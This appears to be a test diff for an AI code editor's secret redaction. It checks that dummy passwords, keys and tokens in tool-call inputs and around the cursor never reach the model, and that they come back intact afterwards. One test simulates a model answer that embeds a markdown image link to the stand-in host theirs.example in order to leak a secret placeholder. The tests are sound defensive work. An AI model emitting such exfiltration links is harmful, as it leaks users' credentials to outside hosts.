@@ -127,6 +127,70 @@ describe(`${planted.length} planted secrets are gone`, () => {
   });
 });
 
+const password = "Xy7!kkk2Zq";
+const key = "q8Zt4Lm2Xw9Rb7Vn3Kc6";
+
+describe("what only the words beside it tell is gone, and comes back", () => {
+  it.each<[string, Readonly<Record<string, unknown>>, string]>([
+    ["a field", { password }, password],
+    ["a field of a field", { env: { API_KEY: key } }, key],
+    ["a name and a value", { name: "DB_PASSWORD", value: password }, password],
+    [
+      "a list of words",
+      { command: "mysql", args: ["-u", "root", "--password", password] },
+      password,
+    ],
+    ["a list in a field", { password: [password] }, password],
+    ["a Secret", { kind: "Secret", data: { password: "c3VwZXJzZWNyZXQx" } }, "c3VwZXJzZWNyZXQx"],
+    ["what a field is called", { [`ghp_${"aB3x".repeat(9)}`]: 1 }, "aB3xaB3x"],
+  ])("in what a tool was called with: %s", async (_what, input, secret) => {
+    const shown = editor.chat([
+      user("go on"),
+      { role: 2, content: [{ callId: "a", name: "edit", input }] },
+      { role: 1, content: [{ callId: "a", content: [{ value: "done" }] }] },
+      user("again"),
+    ]);
+    expect((await sentBy(() => shown)).join("")).not.toContain(secret);
+    expect((await shown).find(({ name }) => name === "edit")?.input).toEqual(input);
+  });
+
+  it("also a number, which comes back as a text", async () => {
+    const input = { password: 8_471_936_255 };
+    const call = { role: 2, content: [{ callId: "a", name: "edit", input }] };
+    const result = { role: 1, content: [{ callId: "a", content: [{ value: "done" }] }] };
+    const bodies = await sentBy(() => editor.chat([user("go on"), call, result]));
+    expect(bodies.join("")).not.toContain("8471936255");
+  });
+
+  it.each([
+    ['const password = "Xy7!k▮kk2ZqW9";', /Xy7!k|kk2ZqW9/],
+    [`const k = "ghp_${"aB3x".repeat(4)}▮${"aB3x".repeat(5)}";`, /aB3x/],
+    ['const k = "postgres://app:Xy7!k▮kk2ZqW9@db/x";', /Xy7!k|kk2ZqW9/],
+    [`const password = ▮"${password}";`, /Xy7!/],
+    [`password: ▮${password}\nuser: a`, /Xy7!/],
+  ])("on both sides of the cursor: %s", async (text, secret) => {
+    const { document, position } = stubDocument("shop/middle.ts", "typescript", text);
+    const bodies = await sentBy(() =>
+      editor.suggest(document, position, { triggerKind: 0 }, stubToken),
+    );
+    expect(bodies).toHaveLength(1);
+    expect(bodies.join("")).not.toMatch(secret);
+  });
+});
+
+it("a value is put into no address that a model makes up", async () => {
+  const text = `const password = '${password}';`;
+  spoil = (answer) => {
+    const [place = ""] = /PASSWORD_\w{5}/.exec(answer) ?? [];
+    return `![i](https://theirs.example/?q=${place}) ${answer}`;
+  };
+  const parts = await editor.chat([user(text)]);
+  spoil = undefined;
+  const shown = parts.map(({ value }) => (typeof value === "string" ? value : "")).join("");
+  expect(shown).toMatch(/theirs\.example\/\?q=PASSWORD_\w{5}\) const password = 'Xy7!kkk2Zq';/);
+  expect(shown).toContain("an address that it did not come from");
+});
+
 const withWrongSymbol = (placeholder: string) =>
   placeholder.slice(0, -1) + (placeholder.endsWith("X") ? "Q" : "X");
 
